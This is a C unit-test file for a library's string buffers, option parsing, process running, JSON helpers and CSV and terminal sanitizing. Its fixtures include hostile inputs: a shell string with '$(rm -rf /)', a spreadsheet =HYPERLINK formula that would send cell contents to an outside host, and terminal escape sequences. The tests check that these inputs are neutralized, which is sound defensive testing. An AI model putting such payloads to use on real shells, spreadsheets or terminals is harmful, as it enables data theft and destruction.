/*
 * test_lib.c - unit tests for the lib/ core: strbuf, strvec, parse-options,
 * run-command (including the parallel runner), timestamps, JSON helpers and
 * the terminal escaping of term.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include "json.h"
#include "log.h"
#include "logmerge.h"
#include "netif.h"
#include "parse-options.h"
#include "rowfmt.h"
#include "run-command.h"
#include "strbuf.h"
#include "strvec.h"
#include "term.h"

static void test_strbuf_basic(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	char *s;
	size_t len;

	assert_string_equal(sb.buf, "");
	strbuf_addstr(&sb, "abc");
	strbuf_addch(&sb, '-');
	strbuf_addf(&sb, "%d/%s", 42, "x");
	assert_string_equal(sb.buf, "abc-42/x");
	assert_int_equal(sb.len, 8);
	strbuf_setlen(&sb, 3);
	assert_string_equal(sb.buf, "abc");
	s = strbuf_detach(&sb, &len);
	assert_string_equal(s, "abc");
	assert_int_equal(len, 3);
	assert_string_equal(sb.buf, "");
	free(s);
	strbuf_release(&sb);
}

static void test_strbuf_addf_grows(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	char big[5000];

	memset(big, 'q', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	strbuf_addf(&sb, "<%s>", big);
	assert_int_equal(sb.len, sizeof(big) + 1);
	assert_int_equal(sb.buf[0], '<');
	assert_int_equal(sb.buf[sb.len - 1], '>');
	strbuf_release(&sb);
}

static void test_strbuf_trim_and_quote(void **state)
{
	struct strbuf sb = STRBUF_INIT;

	strbuf_addstr(&sb, " \t hi there \n");
	strbuf_trim(&sb);
	assert_string_equal(sb.buf, "hi there");
	strbuf_reset(&sb);
	strbuf_add_shell_quoted(&sb, "it's $(rm -rf /); `x`\n");
	assert_string_equal(sb.buf, "'it'\\''s $(rm -rf /); `x`\n'");
	strbuf_release(&sb);
}

/*
 * Someone's words in a CSV (acct's job names, of every user): a spreadsheet
 * runs a field that begins with = + - @ as a formula (=HYPERLINK(...) sends
 * the sheet's cells away): such a field gets a leading "'".
 */
static void test_csv_text_is_never_a_formula(void **state)
{
	static const char *const cases[][2] = {
		{ "=HYPERLINK(\"https://x/?\"&A1,\"ok\")",
		  "\"'=HYPERLINK(\"\"https://x/?\"\"&A1,\"\"ok\"\")\"" },
		{ "+1", "'+1" }, { "-2+3", "'-2+3" }, { "@SUM(A1)", "'@SUM(A1)" },
		{ "\tx", "'\tx" }, { "\r=1", "\"'\r=1\"" },
		{ "train-1", "train-1" }, { "a,b", "\"a,b\"" }, { "", "" },
	};
	struct strbuf sb = STRBUF_INIT;

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		strbuf_reset(&sb);
		strbuf_addcsv_text(&sb, cases[i][0]);
		assert_string_equal(sb.buf, cases[i][1]);
	}
	strbuf_release(&sb);
}

static void test_strbuf_shell_quote_roundtrip(void **state)
{
	const char *nasty = "a b'c\"d$e`f\\g\nh;i|j&k*";
	struct child_process cp = CHILD_PROCESS_INIT;
	struct strbuf cmd = STRBUF_INIT, out = STRBUF_INIT;

	strbuf_addstr(&cmd, "printf %s ");
	strbuf_add_shell_quoted(&cmd, nasty);
	strvec_push(&cp.args, "/bin/sh");
	strvec_push(&cp.args, "-c");
	strvec_push(&cp.args, cmd.buf);
	assert_int_equal(capture_command(&cp, &out, 0), 0);
	assert_string_equal(out.buf, nasty);
	child_process_clear(&cp);
	strbuf_release(&cmd);
	strbuf_release(&out);
}

static void test_write_file_atomic(void **state)
{
	char dir[] = "/tmp/dtctl-test-XXXXXX";
	struct strbuf path = STRBUF_INIT, got = STRBUF_INIT;
	struct stat st;

	assert_non_null(mkdtemp(dir));
	strbuf_addf(&path, "%s/f", dir);
	assert_int_equal(write_file_atomic(path.buf, "hello\n", 6, 0600), 0);
	assert_int_equal(strbuf_read_file(&got, path.buf, 0), 6);
	assert_string_equal(got.buf, "hello\n");
	assert_int_equal(stat(path.buf, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0600);
	/* limit refuses larger files and leaves the buffer as it was */
	strbuf_reset(&got);
	assert_int_equal(strbuf_read_file(&got, path.buf, 3), -1);
	assert_int_equal(errno, EFBIG);
	assert_int_equal(got.len, 0);
	/* a missing directory fails cleanly and leaves no temp file */
	strbuf_reset(&path);
	strbuf_addf(&path, "%s/missing/f", dir);
	assert_int_equal(write_file_atomic(path.buf, "x", 1, 0644), -1);
	assert_int_equal(write_file_replace(path.buf, "x", 1, 0644), -1);
	strbuf_reset(&path);
	strbuf_addf(&path, "%s/f", dir);
	/* the no-fsync variant replaces the file whole, with its mode */
	assert_int_equal(write_file_replace(path.buf, "replaced\n", 9, 0644), 0);
	strbuf_reset(&got);
	assert_int_equal(strbuf_read_file(&got, path.buf, 0), 9);
	assert_string_equal(got.buf, "replaced\n");
	assert_int_equal(stat(path.buf, &st), 0);
	assert_int_equal(st.st_mode & 0777, 0644);
	unlink(path.buf);
	assert_int_equal(rmdir(dir), 0);   /* no temp file left beside it */
	strbuf_release(&path);
	strbuf_release(&got);
}

static void test_strvec(void **state)
{
	struct strvec sv = STRVEC_INIT;

	assert_null(sv.v[0]);
	strvec_push(&sv, "a");
	strvec_pushf(&sv, "b%d", 2);
	strvec_split(&sv, ",,c,d,", ",");
	assert_int_equal(sv.nr, 4);
	assert_string_equal(sv.v[1], "b2");
	assert_string_equal(sv.v[3], "d");
	assert_null(sv.v[4]);
	assert_int_equal(strvec_find(&sv, "c"), 2);
	assert_int_equal(strvec_find(&sv, "zz"), -1);
	strvec_pop(&sv);
	assert_int_equal(sv.nr, 3);
	strvec_clear(&sv);
	assert_int_equal(sv.nr, 0);

	strvec_setenv(&sv, "A", "1");
	strvec_setenv(&sv, "AB", "2");
	strvec_setenv(&sv, "A", "3");
	assert_int_equal(sv.nr, 2);
	assert_string_equal(sv.v[0], "A=3");
	assert_string_equal(sv.v[1], "AB=2");
	strvec_clear(&sv);
}

static const char *const test_usage[] = { "test [options] <args>", NULL };

static void test_parse_options_good(void **state)
{
	int flag = 0, verbose = 0, n = 7;
	double x = 0;
	const char *name = NULL;
	struct strvec multi = STRVEC_INIT;
	struct option opts[] = {
		OPT_BOOL('f', "flag", &flag, "a flag"),
		OPT_COUNT('v', "verbose", &verbose, "more"),
		OPT_INT('n', "num", &n, "a number"),
		OPT_DOUBLE(0, "x", &x, "a real"),
		OPT_STRING(0, "name", &name, "s", "a name"),
		OPT_STRVEC('e', "env", &multi, "k=v", "repeatable"),
		OPT_END(),
	};
	const char *argv[] = { "pos1", "-vv", "--num=3", "-fe", "A=1", "--name", "bob",
			       "--x", "2.5", "pos2", "--env=B=2", "--", "-n", "9", NULL };
	int argc = parse_options(14, argv, opts, test_usage, 0);

	assert_int_equal(argc, 4);
	assert_string_equal(argv[0], "pos1");
	assert_string_equal(argv[1], "pos2");
	assert_string_equal(argv[2], "-n");
	assert_string_equal(argv[3], "9");
	assert_int_equal(flag, 1);
	assert_int_equal(verbose, 2);
	assert_int_equal(n, 3);
	assert_true(x == 2.5);
	assert_string_equal(name, "bob");
	assert_int_equal(multi.nr, 2);
	assert_string_equal(multi.v[1], "B=2");
	strvec_clear(&multi);
}

static void test_parse_options_stop_and_negate(void **state)
{
	int flag = 1;
	struct option opts[] = {
		OPT_BOOL(0, "flag", &flag, "a flag"),
		OPT_END(),
	};
	const char *argv[] = { "--no-flag", "cmd", "--flag", NULL };
	int argc = parse_options(3, argv, opts, test_usage, PARSE_OPT_STOP_AT_NON_OPTION);

	assert_int_equal(flag, 0);
	assert_int_equal(argc, 2);
	assert_string_equal(argv[0], "cmd");
	assert_string_equal(argv[1], "--flag");
}

/* --flag=VALUE for a switch: what job.yaml's trainer: map and W&B sweeps pass */
static void test_parse_options_bool_values(void **state)
{
	static const struct { const char *arg; int want; } cases[] = {
		{ "--flag=true", 1 }, { "--flag=True", 1 }, { "--flag=yes", 1 }, { "--flag=1", 1 },
		{ "--flag=on", 1 }, { "--flag=false", 0 }, { "--flag=False", 0 }, { "--flag=no", 0 },
		{ "--flag=0", 0 }, { "--flag=OFF", 0 }, { "--no-flag=false", 1 }, { "--no-flag=true", 0 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
		int flag = !cases[i].want;
		struct option opts[] = {
			OPT_BOOL(0, "flag", &flag, "a flag"),
			OPT_END(),
		};
		const char *argv[] = { cases[i].arg, NULL };

		assert_int_equal(parse_options(1, argv, opts, test_usage, 0), 0);
		if (flag != cases[i].want)
			fail_msg("%s gave %d", cases[i].arg, flag);
	}
}

/* The parser's exit, and no other: no atexit handler runs (see parse_in_child) */
static void exit_now(int code)
{
	fflush(NULL);
	_exit(code);
}

/*
 * Bad options exit with DT_EXIT_USAGE: check in a child process.  Its exit
 * code must be the parser's: under ASan, a plain exit() runs LeakSanitizer's
 * check in the forked child, which ends it with 1 instead when it meets a
 * fatal error (it could not stop the world: a ptrace on a loaded machine, no
 * fd for /proc/PID/task) or counts as leaked what the parent's other threads
 * held.  The test once failed so (0x1 != 0x2).  The exit hook ends the child
 * at once, and its open-file limit is cut to what the parser needs, so that
 * a check that did run would fail every time, not once in a while.
 */
static int parse_in_child(int argc, const char **argv)
{
	int n = 0, flag = 0, status;
	pid_t pid;
	struct option opts[] = {
		OPT_INT('n', "num", &n, "a number"),
		OPT_BOOL(0, "flag", &flag, "a flag"),
		OPT_END(),
	};

	fflush(NULL);
	pid = fork();
	if (pid == 0) {
		int fd = open("/dev/null", O_WRONLY);

		struct rlimit rl = { 3, 3 };

		dup2(fd, 1);
		dup2(fd, 2);
		close(fd);
		if (setrlimit(RLIMIT_NOFILE, &rl) < 0)
			_exit(99);
		dt_set_exit_hook(exit_now);
		parse_options(argc, argv, opts, test_usage, 0);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	return WEXITSTATUS(status);
}

static void test_parse_options_errors(void **state)
{
	const char *a1[] = { "--bogus", NULL };
	const char *a2[] = { "--num", "abc", NULL };
	const char *a3[] = { "--num", NULL };
	const char *a4[] = { "-x", NULL };
	const char *a5[] = { "--help", NULL };
	const char *a6[] = { "--flag=maybe", NULL };
	const char *a7[] = { "--flag=", NULL };

	assert_int_equal(parse_in_child(1, a1), 2);
	assert_int_equal(parse_in_child(2, a2), 2);
	assert_int_equal(parse_in_child(1, a3), 2);
	assert_int_equal(parse_in_child(1, a4), 2);
	assert_int_equal(parse_in_child(1, a5), 0);
	assert_int_equal(parse_in_child(1, a6), 2);
	assert_int_equal(parse_in_child(1, a7), 2);
}

/* The program a command runs, found as execvp() finds it; through env(1) too. */
static void test_locate_program(void **state)
{
	static const char *const wandb[] = { "/usr/bin/env", "-u", "X", "A=1", "python", "t.py" };
	static const char *const plain[] = { "sh", "-c", "true" };
	static const char *const bare_env[] = { "env", "A=1" };
	struct strbuf found = STRBUF_INIT;
	char dir[] = "/tmp/dt-locate-XXXXXX";
	struct strbuf p = STRBUF_INIT;
	int fd;

	assert_int_equal(argv_program_index(wandb, 6), 4);
	assert_int_equal(argv_program_index(plain, 3), 0);
	assert_int_equal(argv_program_index(bare_env, 2), -1);
	assert_non_null(mkdtemp(dir));
	strbuf_addf(&p, "%s/tool", dir);
	fd = open(p.buf, O_WRONLY | O_CREAT, 0644);   /* not executable yet */
	assert_true(fd >= 0);
	close(fd);
	assert_int_equal(locate_program("tool", dir, NULL, &found), -1);
	assert_int_equal(chmod(p.buf, 0755), 0);
	assert_int_equal(locate_program("tool", "/nonexistent::/x", dir, &found), 0);  /* "" = cwd */
	assert_string_equal(found.buf, p.buf);
	assert_int_equal(locate_program("./tool", NULL, dir, &found), 0);
	assert_int_equal(locate_program("tool", "/nonexistent", dir, &found), -1);
	assert_int_equal(locate_program("sh", NULL, NULL, &found), 0);   /* execvp's default */
	assert_int_equal(locate_program(dir, NULL, NULL, &found), -1);   /* a dir is no program */
	unlink(p.buf);
	rmdir(dir);
	strbuf_release(&p);
	strbuf_release(&found);
}

static void test_run_command_codes(void **state)
{
	struct child_process cp = CHILD_PROCESS_INIT;
	struct strbuf out = STRBUF_INIT;

	strvec_pushv(&cp.args, (const char *[]){ "/bin/sh", "-c", "echo $FOO; exit 3", NULL });
	strvec_push(&cp.env, "FOO=bar baz");
	assert_int_equal(capture_command(&cp, &out, 0), 3);
	assert_string_equal(out.buf, "bar baz\n");
	child_process_clear(&cp);

	child_process_init(&cp);
	strvec_pushv(&cp.args, (const char *[]){ "/bin/sh", "-c", "kill -9 $$", NULL });
	assert_int_equal(run_command(&cp), 128 + 9);
	child_process_clear(&cp);

	/* a missing program is reported by start_command, not as exit 127 */
	child_process_init(&cp);
	cp.no_stderr = 1;
	strvec_push(&cp.args, "/nonexistent/program");
	assert_int_equal(start_command(&cp), -1);
	child_process_clear(&cp);

	/* working directory */
	child_process_init(&cp);
	strbuf_reset(&out);
	cp.dir = "/";
	strvec_push(&cp.args, "pwd");
	assert_int_equal(capture_command(&cp, &out, 0), 0);
	assert_string_equal(out.buf, "/\n");
	child_process_clear(&cp);
	strbuf_release(&out);
}

struct pp_data {
	int next;
	int total;
	int codes[8];
	char outputs[8][32];
};

static int pp_next(struct child_process *cp, void *data, void **task)
{
	struct pp_data *d = data;

	if (d->next >= d->total)
		return 0;
	strvec_push(&cp->args, "/bin/sh");
	strvec_push(&cp->args, "-c");
	if (d->next == 5)
		strvec_push(&cp->args, "sleep 5");  /* times out */
	else
		strvec_pushf(&cp->args, "echo task%d; echo err%d >&2; exit %d", d->next, d->next,
			     d->next);
	*task = (void *)(intptr_t)d->next++;
	return 1;
}

static void pp_done(int code, struct strbuf *output, void *data, void *task)
{
	struct pp_data *d = data;
	int i = (int)(intptr_t)task;

	d->codes[i] = code;
	snprintf(d->outputs[i], sizeof(d->outputs[i]), "%s", output->buf);
}

static void test_run_parallel(void **state)
{
	struct pp_data d = { .total = 6 };
	struct parallel_opts o = { .jobs = 3, .timeout_ms = 700, .next = pp_next,
				   .done = pp_done, .data = &d };
	long long t0 = dt_mono_ms();

	assert_int_equal(run_processes_parallel(&o), 0);
	assert_true(dt_mono_ms() - t0 < 4000);
	for (int i = 0; i < 5; i++) {
		char want[32];

		snprintf(want, sizeof(want), "task%d\nerr%d\n", i, i);
		assert_int_equal(d.codes[i], i);
		assert_string_equal(d.outputs[i], want);
	}
	assert_int_equal(d.codes[5], 124);
}

static void test_timestamps(void **state)
{
	char ts[DT_TIMESTAMP_LEN];
	long long us, now = dt_now_us();

	dt_timestamp(ts, sizeof(ts));
	assert_int_equal(strlen(ts), 27);
	assert_int_equal(ts[10], 'T');
	assert_int_equal(ts[26], 'Z');
	us = dt_timestamp_parse(ts);
	assert_true(us > 0 && llabs(us - now) < 5000000);
	assert_int_equal(dt_timestamp_parse("2026-11-22T10:00:00.123456Z"), 1795341600123456LL);
	assert_int_equal(dt_timestamp_parse("2026-11-22T10:00:00.5Z"), 1795341600500000LL);
	assert_int_equal(dt_timestamp_parse("2026-11-22 10:00:00Z"), -1);
	assert_int_equal(dt_timestamp_parse("2026-11-22T10:00:00.1"), -1);
}

static void test_json_helpers(void **state)
{
	struct strbuf err = STRBUF_INIT, out = STRBUF_INIT;
	const char *doc = "{\"a\": 1, \"b\": \"x\", \"c\": 2.5}";
	const char *dup = "{\"a\": 1, \"a\": 2}";
	json_t *j = json_parse(doc, strlen(doc), &err);

	assert_non_null(j);
	assert_int_equal(json_get_int(j, "a", -1), 1);
	assert_string_equal(json_get_str(j, "b", NULL), "x");
	assert_true(json_get_real(j, "c", 0) == 2.5);
	assert_int_equal(json_get_int(j, "b", -1), -1);
	assert_null(json_get_str(j, "zz", NULL));
	json_append(&out, j);
	assert_string_equal(out.buf, "{\"a\":1,\"b\":\"x\",\"c\":2.5}");
	json_decref(j);
	assert_null(json_parse(dup, strlen(dup), &err));
	assert_true(starts_with(err.buf, "line 1 col"));
	strbuf_release(&err);
	strbuf_release(&out);
}

/* What fn printed on stdout (through a temporary file). */
/* What fn(arg) writes to fp (stdout or stderr). */
static char *capture(FILE *fp, void (*fn)(void *), void *arg)
{
	char path[] = "/tmp/dt-test-stdout-XXXXXX";
	int fd = mkstemp(path), saved, out = fileno(fp);
	struct strbuf sb = STRBUF_INIT;

	assert_true(fd >= 0);
	fflush(fp);
	saved = dup(out);
	dup2(fd, out);
	fn(arg);
	fflush(fp);
	dup2(saved, out);
	close(saved);
	close(fd);
	assert_int_equal(strbuf_read_file(&sb, path, 0) >= 0, 1);
	unlink(path);
	return strbuf_detach(&sb, NULL);
}

static void print_tree(void *arg)
{
	json_print(arg);
}

static int text_ret;
static const char *text_only = "nodes";
static void print_text(void *arg)
{
	text_ret = json_print_text(arg, strlen(arg), text_only, NULL);
}

static void test_json_print_text(void **state)
{
	const char *reply = "{\"protocol\":1,\"nodes\":[{\"name\":\"a,b\\\"}{\",\"n\":-2.5,"
			    "\"t\":true,\"x\":null,\"e\":[],\"o\":{},\"l\":[1,[2,{\"k\":\"v\"}]]},{}],"
			    "\"after\":{\"z\":[1]}}";
	const char *bad[] = { "", "[1]", "{\"nodes\":[1}", "{\"nodes\":[1]", "{\"nodes\":1} x",
			      "{\"nodes\" 1}", "{\"nodes\":\"open}" };
	json_t *j = json_loads(reply, 0, NULL), *want = json_object();
	char *a, *b;

	assert_non_null(j);
	json_object_set(want, "nodes", json_object_get(j, "nodes"));
	a = capture(stdout, print_tree, want);
	b = capture(stdout, print_text, (void *)reply);
	assert_int_equal(text_ret, 0);
	assert_string_equal(b, a);
	free(a);
	free(b);
	/* several keys, in the reply's order; a key's prefix is not the key */
	json_object_set(want, "after", json_object_get(j, "after"));
	a = capture(stdout, print_tree, want);
	text_only = "after  nodes node";
	b = capture(stdout, print_text, (void *)reply);
	text_only = "nodes";
	assert_int_equal(text_ret, 0);
	assert_string_equal(b, a);
	free(a);
	free(b);
	text_only = "node protoco";
	b = capture(stdout, print_text, (void *)reply);
	text_only = "nodes";
	assert_string_equal(b, "{}\n");
	free(b);
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		b = capture(stdout, print_text, (void *)bad[i]);
		assert_int_equal(text_ret, -1);
		assert_string_equal(b, "");
		free(b);
	}
	json_decref(j);
	json_decref(want);
}

/* the interface a route leaves from: loopback here (a fake node's eth0 is
 * checked end to end in tests/e2e/test_netif.py) */
static void test_netif_route(void **state)
{
	struct dt_netif n;
	struct strbuf err = STRBUF_INIT;

	assert_int_equal(dt_netif_route("127.0.0.1", 7071, &n, &err), 0);
	assert_string_equal(n.addr, "127.0.0.1");
	assert_string_equal(n.cidr, "127.0.0.0/8");
	assert_true(n.loopback);
	assert_true(n.name[0] != '\0');
	assert_int_equal(dt_netif_route("127.0.0.9", 0, &n, &err), 0);   /* 127/8 is all lo */
	assert_string_equal(n.addr, "127.0.0.1");
	assert_int_equal(dt_netif_route("no-such-host.invalid", 7071, &n, &err), -1);
	assert_non_null(strstr(err.buf, "cannot resolve 'no-such-host.invalid'"));
	strbuf_release(&err);
}

static void test_json_append_str(void **state)
{
	const char *in = "q\"b\\n\n\r\t\x01\x7f \xc3\xa9";
	struct strbuf sb = STRBUF_INIT;
	json_t *j;

	json_append_str(&sb, in);
	j = json_loads(sb.buf, JSON_DECODE_ANY, NULL);
	assert_non_null(j);
	assert_string_equal(json_string_value(j), in);
	json_decref(j);
	strbuf_release(&sb);

	/* C1 controls escaped (exact after decoding); other UTF-8 kept, even 0x97 in 日 */
	json_append_str(&sb, "a\xc2\x9b" "2J\xc2\x80\xc2\xa0\xe6\x97\xa5\xc3\xa9");
	assert_string_equal(sb.buf, "\"a\\u009b2J\\u0080\xc2\xa0\xe6\x97\xa5\xc3\xa9\"");
	strbuf_release(&sb);
}

static void test_term_sanitize(void **state)
{
	static const struct {
		const char *in;
		size_t len;           /* 0: strlen(in) */
		unsigned flags;
		const char *want;
	} cases[] = {
		{ "plain text 123", 0, 0, "plain text 123" },
		{ "", 0, 0, "" },
		/* ESC alone, an OSC title (ended by BEL), a CSI clear */
		{ "\033", 0, 0, "\\e" },
		{ "a\033]2;x\007b", 0, 0, "a\\e]2;x\\x07b" },
		{ "\033[2J\033[31mred", 0, 0, "\\e[2J\\e[31mred" },
		{ "\033]8;;http://x\033\\link", 0, 0, "\\e]8;;http://x\\e\\link" },
		/* other C0 controls and DEL */
		{ "\001\010\013\014\177", 0, 0, "\\x01\\x08\\x0b\\x0c\\x7f" },
		/* C1 controls: raw bytes are invalid UTF-8; in UTF-8 form both bytes shown */
		{ "\x9b" "2J\x90\x9d", 0, 0, "\\x9b2J\\x90\\x9d" },
		{ "\xc2\x9b" "2J\xc2\x80\xc2\x9f", 0, 0, "\\xc2\\x9b2J\\xc2\\x80\\xc2\\x9f" },
		/* U+00A0 (just past C1) and valid multibyte text stay */
		{ "\xc2\xa0 caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x99\x82", 0, 0,
		  "\xc2\xa0 caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x99\x82" },
		/* invalid UTF-8: stray continuation, truncated sequence, overlong, surrogate, > U+10FFFF */
		{ "a\x80z", 0, 0, "a\\x80z" },
		{ "\xe6\x97", 0, 0, "\\xe6\\x97" },
		{ "\xe6\x97z", 0, 0, "\\xe6\\x97z" },
		{ "\xc0\xaf", 0, 0, "\\xc0\\xaf" },
		{ "\xed\xa0\x80", 0, 0, "\\xed\\xa0\\x80" },
		{ "\xf4\x90\x80\x80", 0, 0, "\\xf4\\x90\\x80\\x80" },
		{ "\xff\xfe", 0, 0, "\\xff\\xfe" },
		/* tabs, newlines, CR: escaped in a field, kept where asked */
		{ "a\tb\nc\rd", 0, 0, "a\\tb\\nc\\rd" },
		{ "a\tb\nc\rd", 0, TERM_KEEP_TAB, "a\tb\\nc\\rd" },
		{ "a\tb\nc\rd", 0, TERM_KEEP_NL, "a\\tb\nc\\rd" },
		/* a backslash is not doubled */
		{ "C:\\x41", 0, 0, "C:\\x41" },
		/* NUL inside a length-delimited string, and a length that ends mid-sequence */
		{ "a\0b\033", 4, 0, "a\\x00b\\e" },
		{ "x\xc3\xa9", 2, 0, "x\\xc3" },
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct strbuf sb = STRBUF_INIT;
		size_t len = cases[i].len ? cases[i].len : strlen(cases[i].in);

		strbuf_addstr(&sb, ">");   /* appends */
		term_sanitize(&sb, cases[i].in, len, cases[i].flags);
		if (strcmp(sb.buf + 1, cases[i].want) || sb.buf[0] != '>')
			fail_msg("case %zu: got '%s', want '%s'", i, sb.buf + 1, cases[i].want);
		strbuf_release(&sb);
	}
}

static void test_term_str(void **state)
{
	const char *first = term_str("n\033[2J");
	const char *keep[TERM_STR_SLOTS];

	assert_null(term_str(NULL));
	assert_string_equal(first, "n\\e[2J");
	/* the slots rotate: TERM_STR_SLOTS results are alive at once */
	for (int i = 0; i < TERM_STR_SLOTS; i++) {
		char in[16];

		snprintf(in, sizeof(in), "%d\t", i);
		keep[i] = term_str(in);
	}
	for (int i = 0; i < TERM_STR_SLOTS; i++) {
		char want[16];

		snprintf(want, sizeof(want), "%d\\t", i);
		assert_string_equal(keep[i], want);
	}
}

static void test_log_sanitize(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	const char *line = "10%\r50%\r\033[1m100%\a\tok\xc2\x9b\r";

	/* a progress bar keeps its last state; ESC, BEL and C1 escaped, tabs kept */
	log_sanitize(&sb, line, strlen(line));
	assert_string_equal(sb.buf, "\\e[1m100%\\x07\tok\\xc2\\x9b");
	strbuf_release(&sb);
}

static void report_hostile(void *arg)
{
	error("job '%s' not found", (const char *)arg);
	warning("two\nlines\tand a tab");
}

static void test_error_escapes(void **state)
{
	char *out;

	dt_set_progname("test_lib");
	out = capture(stderr, report_hostile, (void *)"x\033]2;pwned\007\x9b");

	/* the last line of defence: control bytes from a quoted string never reach stderr raw */
	assert_string_equal(out, "test_lib: error: job 'x\\e]2;pwned\\x07\\x9b' not found\n"
			    "test_lib: warning: two\nlines\tand a tab\n");
	free(out);
}

/* rowfmt: every byte a field may hold comes back, NULL included, rows apart */
static void test_rowfmt_round_trip(void **state)
{
	static const char *const rows[][4] = {
		{ "j-1", "plain", NULL, "" },
		{ "a\tb", "new\nline\r", "back\\slash\\", "\\N" },
		{ "\\", "\t\t", "\n", "\\t" },
	};
	struct strbuf sb = STRBUF_INIT;
	char *cur, *f[4];
	int i;

	for (i = 0; i < 3; i++) {
		for (int k = 0; k < 4; k++)
			rowfmt_add(&sb, rows[i][k]);
		rowfmt_end(&sb);
	}
	/* one line per row: no raw tab beyond the 3 separators, no raw newline inside */
	assert_int_equal(strchr(sb.buf, '\n') - sb.buf, strlen("j-1\tplain\t\\N\t"));
	cur = sb.buf;
	for (i = 0; i < 3; i++) {
		assert_int_equal(rowfmt_next(&cur, f, 4), 4);
		for (int k = 0; k < 4; k++) {
			if (!rows[i][k])
				assert_null(f[k]);
			else
				assert_string_equal(f[k], rows[i][k]);
		}
	}
	assert_int_equal(rowfmt_next(&cur, f, 4), 0);
	strbuf_release(&sb);

	/* more fields than asked for (a newer dtsched), a last row without '\n',
	 * an unknown escape, a trailing backslash, numbers */
	strbuf_addstr(&sb, "x\ty\tz\n\\q\\");
	cur = sb.buf;
	assert_int_equal(rowfmt_next(&cur, f, 2), 3);
	assert_string_equal(f[0], "x");
	assert_string_equal(f[1], "y");
	assert_int_equal(rowfmt_next(&cur, f, 2), 1);
	assert_string_equal(f[0], "q\\");
	assert_null(f[1]);
	assert_int_equal(rowfmt_next(&cur, f, 2), 0);
	strbuf_reset(&sb);
	rowfmt_add_int(&sb, -42);
	rowfmt_add_int(&sb, 1LL << 40);
	rowfmt_end(&sb);
	assert_string_equal(sb.buf, "-42\t1099511627776\n");
	strbuf_release(&sb);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_strbuf_basic),
		cmocka_unit_test(test_rowfmt_round_trip),
		cmocka_unit_test(test_strbuf_addf_grows),
		cmocka_unit_test(test_strbuf_trim_and_quote),
		cmocka_unit_test(test_strbuf_shell_quote_roundtrip),
		cmocka_unit_test(test_csv_text_is_never_a_formula),
		cmocka_unit_test(test_write_file_atomic),
		cmocka_unit_test(test_strvec),
		cmocka_unit_test(test_parse_options_good),
		cmocka_unit_test(test_parse_options_stop_and_negate),
		cmocka_unit_test(test_parse_options_bool_values),
		cmocka_unit_test(test_parse_options_errors),
		cmocka_unit_test(test_run_command_codes),
		cmocka_unit_test(test_locate_program),
		cmocka_unit_test(test_run_parallel),
		cmocka_unit_test(test_timestamps),
		cmocka_unit_test(test_json_helpers),
		cmocka_unit_test(test_json_print_text),
		cmocka_unit_test(test_netif_route),
		cmocka_unit_test(test_json_append_str),
		cmocka_unit_test(test_term_sanitize),
		cmocka_unit_test(test_term_str),
		cmocka_unit_test(test_log_sanitize),
		cmocka_unit_test(test_error_escapes),
	};

	return cmocka_run_group_tests_name("lib", tests, NULL, NULL);
}
